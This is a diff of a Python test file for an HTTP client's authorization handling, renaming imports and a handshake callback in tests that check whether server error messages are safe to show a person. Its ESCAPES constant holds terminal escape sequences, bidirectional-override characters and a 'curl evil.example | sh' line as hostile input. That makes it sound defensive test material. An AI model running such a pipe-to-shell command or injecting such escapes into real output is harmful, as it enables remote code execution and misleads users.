@@ -11,17 +11,17 @@ from tests.attacks.webs import Asked, page
 from trunkline import Settings
 from trunkline.auth import MemoryTokens
 from trunkline.errors import AuthorizationFailed
-from trunkline.transports.http.client.aiohttp_backend import Aiohttp
-from trunkline.transports.http.client.http_peer import Peer
-from trunkline.transports.http.client.url import place
+from trunkline.transports.http.client.aiohttp_backend import AiohttpBackend
+from trunkline.transports.http.client.http_peer import HttpPeer
+from trunkline.transports.http.client.url import parse_url
 
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u202e\u2066\u2028\x7f\x85"
 
 
 async def asked_again(one: Login) -> None:
     """A request to a server that is never content."""
-    library = Aiohttp(Settings())
-    peer = Peer(library, place(one.url), {}, one.engine(store=MemoryTokens()))
+    library = AiohttpBackend(Settings())
+    peer = HttpPeer(library, parse_url(one.url), {}, one.engine(store=MemoryTokens()))
     try:
         await within(peer.send("POST", body=b"{}"), "an answer")
     except AuthorizationFailed:
@@ -98,9 +98,11 @@ async def test_what_peers_say_can_be_shown_to_a_person() -> None:
         errors: list[AuthorizationFailed] = []
         refusal = page({"error": f"e{ESCAPES}", "error_description": ESCAPES + "x" * 100_000}, 400)
         good = dict(one.authority.metadata)
-        one.person.back = lambda asked: one.person.agreed(asked, error=ESCAPES, error_description=ESCAPES, code=None)
+        one.person.back = lambda asked: one.person.receive_handshake(
+            asked, error=ESCAPES, error_description=ESCAPES, code=None
+        )
         errors.append(await one.fails())
-        one.person.back = one.person.agreed
+        one.person.back = one.person.receive_handshake
         for path in ("/token", "/register"):
             before = one.authority.site.pages[path]
             one.authority.site.pages[path] = refusal
